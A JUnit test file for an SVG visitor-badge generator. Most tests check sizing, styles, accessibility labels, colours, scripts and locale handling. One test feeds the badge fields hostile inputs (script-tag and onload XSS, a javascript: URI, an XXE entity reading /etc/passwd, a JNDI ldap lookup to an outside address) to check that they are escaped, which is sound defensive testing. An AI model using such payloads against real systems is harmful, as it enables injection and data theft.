package io.github.visitorcounter.internal.badge;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.w3c.dom.Document;
import org.w3c.dom.Element;
import org.w3c.dom.NodeList;

import javax.xml.parsers.DocumentBuilderFactory;

import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Set;
import java.util.TreeSet;

import static org.assertj.core.api.Assertions.assertThat;

class BadgeTest {

    private static final Set<String> ELEMENTS =
            Set.of("svg", "title", "linearGradient", "stop", "clipPath", "g", "rect", "text");

    @ParameterizedTest
    @EnumSource
    void badge_is_as_wide_as_its_texts(BadgeStyle style) throws Exception {
        Element svg = parse(new Badge("visitors", "12", BadgeColor.BLUE, style));

        // 39.71 and 13.99, rounded up, each with 5 on both sides
        assertThat(svg.getAttribute("width")).isEqualTo("74");
        assertThat(svg.getAttribute("height")).isEqualTo("20");
        assertThat(rects(svg)).contains("0+50 #555555", "50+24 #007ec6");
        Element number = (Element) texts(svg).item(texts(svg).getLength() - 1);
        assertThat(number.getTextContent()).isEqualTo("12");
        assertThat(number.getAttribute("x")).isEqualTo("62.0");
        assertThat(number.getAttribute("textLength")).isEqualTo("14.0");
    }

    @Test
    void styles_differ() throws Exception {
        Element flat = parse(new Badge("visitors", "12", BadgeColor.BLUE, BadgeStyle.FLAT));
        Element square = parse(new Badge("visitors", "12", BadgeColor.BLUE, BadgeStyle.FLAT_SQUARE));

        assertThat(flat.getElementsByTagName("linearGradient").getLength()).isOne();
        assertThat(texts(flat).getLength()).as("each text and its shadow").isEqualTo(4);
        assertThat(square.getElementsByTagName("linearGradient").getLength()).isZero();
        assertThat(texts(square).getLength()).isEqualTo(2);
    }

    @Test
    void screen_readers_have_one_text() throws Exception {
        Element svg = parse(new Badge("here \"now\"", "12", BadgeColor.BLUE, BadgeStyle.FLAT));

        assertThat(svg.getAttribute("role")).isEqualTo("img");
        assertThat(svg.getAttribute("aria-label")).isEqualTo("here \"now\": 12");
        assertThat(svg.getElementsByTagName("title").item(0).getTextContent()).isEqualTo("here \"now\": 12");
    }

    @Test
    void without_a_label_there_is_one_field() throws Exception {
        Element svg = parse(new Badge("", "12", BadgeColor.BLUE, BadgeStyle.FLAT_SQUARE));

        assertThat(svg.getAttribute("width")).isEqualTo("24");
        assertThat(svg.getAttribute("aria-label")).isEqualTo("12");
        assertThat(texts(svg).getLength()).isOne();
    }

    @Test
    void bright_colour_has_dark_text() throws Exception {
        Element svg = parse(new Badge("visitors", "12", new BadgeColor("ffffff"), BadgeStyle.FLAT_SQUARE));

        assertThat(((Element) texts(svg).item(0)).getAttribute("fill")).isEqualTo("#fff");
        assertThat(((Element) texts(svg).item(1)).getAttribute("fill")).isEqualTo("#333");
    }

    /** Letters of these scripts join or are reordered; textLength would take them apart. */
    @ParameterizedTest
    @ValueSource(strings = {"زوار", "आगंतुक", "訪問者", "посетители", "👩‍👩‍👧 here"})
    void other_scripts_are_not_stretched(String label) throws Exception {
        Badge badge = new Badge(label, "12", BadgeColor.BLUE, BadgeStyle.FLAT);
        Element svg = parse(badge);

        Element text = (Element) texts(svg).item(1);
        assertThat(text.getTextContent()).isEqualTo(label);
        assertThat(text.hasAttribute("textLength")).isFalse();
        assertThat(badge.svg())
                .as("ASCII, whatever a proxy does to the encoding")
                .matches("[ -~]*");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "\" onload=\"alert(1)",
                "' onload='alert(1)",
                "</title><script>alert(1)</script>",
                "]]><script>alert(1)</script>",
                "&#60;script&#62;",
                "&lt;b&gt; & &amp;",
                "<!--",
                "<![CDATA[",
                "<?xml-stylesheet href=\"https://example.org\"?>",
                "<!DOCTYPE svg [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>&x;",
                "<image href=\"https://example.org/x.png\"/>",
                "%3Cscript%3E",
                "%s %d %n {0} ${jndi:ldap://198.51.100.1/a}",
                "javascript:alert(1)"
            })
    void texts_are_only_text(String text) throws Exception {
        for (Badge badge : List.of(
                new Badge(text, "12", BadgeColor.BLUE, BadgeStyle.FLAT),
                new Badge("visitors", text, BadgeColor.BLUE, BadgeStyle.FLAT_SQUARE))) {
            Element svg = parse(badge);
            Set<String> names = new TreeSet<>();
            NodeList all = svg.getElementsByTagName("*");
            for (int i = 0; i < all.getLength(); i++) {
                Element element = (Element) all.item(i);
                names.add(element.getTagName());
                for (int j = 0; j < element.getAttributes().getLength(); j++) {
                    assertThat(element.getAttributes().item(j).getNodeName())
                            .doesNotStartWith("on")
                            .doesNotContain("href");
                }
            }
            assertThat(svg.hasAttribute("onload")).isFalse();
            assertThat(ELEMENTS).containsAll(names);
            assertThat(svg.getTextContent()).contains(text);
        }
    }

    @Test
    void numbers_have_a_point_in_every_locale() throws Exception {
        Locale before = Locale.getDefault();
        try {
            Locale.setDefault(Locale.forLanguageTag("ar-EG-u-nu-arab"));
            assertThat(new Badge("visitors", "12", BadgeColor.BLUE, BadgeStyle.FLAT).svg())
                    .matches("[ -~]*")
                    .contains("width=\"74\"", "x=\"62.0\"");
        } finally {
            Locale.setDefault(before);
        }
    }

    private static Element parse(Badge badge) throws Exception {
        Document document = DocumentBuilderFactory.newInstance()
                .newDocumentBuilder()
                .parse(new ByteArrayInputStream(badge.svg().getBytes(StandardCharsets.UTF_8)));
        return document.getDocumentElement();
    }

    private static NodeList texts(Element svg) {
        return svg.getElementsByTagName("text");
    }

    private static List<String> rects(Element svg) {
        List<String> rects = new ArrayList<>();
        NodeList all = svg.getElementsByTagName("rect");
        for (int i = 0; i < all.getLength(); i++) {
            Element rect = (Element) all.item(i);
            rects.add(rect.getAttribute("x") + "+" + rect.getAttribute("width") + " " + rect.getAttribute("fill"));
        }
        return rects;
    }
}
